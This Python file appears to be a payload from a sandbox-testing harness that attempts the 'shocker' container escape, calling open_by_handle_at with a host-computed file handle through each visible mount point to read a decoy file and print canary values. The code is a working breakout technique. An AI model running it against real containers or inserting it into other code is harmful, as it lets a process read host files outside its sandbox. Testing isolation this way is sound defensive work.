"""Opens a host decoy file by its file handle (open_by_handle_at, the "shocker" escape: CAP_DAC_READ_SEARCH).

The harness computed the decoy's handle on the host. The payload needs any descriptor on the same
filesystem: it tries every path the box has (/, /usr, the files a container runtime binds in such
as /etc/hosts, every mount point it can see), bounded. Only values carrying the canary prefix are
printed. The in-box positive control is read and printed by the same routine (through an ordinary
open, since the handle call itself needs the privilege under test).
"""
import errno
import os
import re
import struct
import sys

import sandcheck_payload as sc

MAX_MOUNT_FDS = 64
MAX_BYTES = 64 * 1024


def show(fd, label):
    """One print routine for the decoy and the positive control."""
    try:
        data = os.read(fd, MAX_BYTES)
    finally:
        os.close(fd)
    for value in sorted(set(pattern.findall(data)))[:10]:
        print("found via %s: %s" % (label, value.decode()), flush=True)


def mount_points():
    seen = ["/", "/usr", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", ".", "/tmp"]
    try:
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                f = line.split()
                if len(f) > 4:
                    seen.append(f[4].encode().decode("unicode_escape"))
    except OSError:
        pass
    out = []
    for p in seen:
        if p not in out:
            out.append(p)
    return out[:MAX_MOUNT_FDS]


args = sc.start()
pattern = re.compile(re.escape(args["canaryPrefix"].encode()) + rb"[A-Za-z0-9]{4,64}")
show(os.open(sc.control_path(), os.O_RDONLY), "(in-box positive control)")
try:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.open_by_handle_at.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int]
except (ImportError, OSError, AttributeError) as e:
    sc.escape_step("setup", "no-ctypes", type(e).__name__)
    sc.done(args)
    sys.exit(0)
raw = bytes.fromhex(args["handleHex"])
handle = struct.pack("Ii", len(raw), int(args["handleType"])) + raw
for path in mount_points():
    try:
        # Not O_PATH: the kernel takes the mount descriptor with fdget(), which refuses O_PATH ones (EBADF).
        mfd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError as e:
        sc.escape_step("mount-fd", errno.errorcode.get(e.errno, "E?"), path)
        continue
    try:
        fd = libc.open_by_handle_at(mfd, handle, os.O_RDONLY)
        outcome = "ok" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "E?")
        sc.escape_step("open_by_handle_at", outcome, path)
        if fd >= 0:
            show(fd, "a file handle through %s" % path)
            break
    finally:
        os.close(mfd)
# Holds still (capped) until the host sampler has seen the program itself: its capabilities decide the cause.
sc.hold(min(float(args.get("holdSeconds", 2)), 10.0))
sc.done(args)
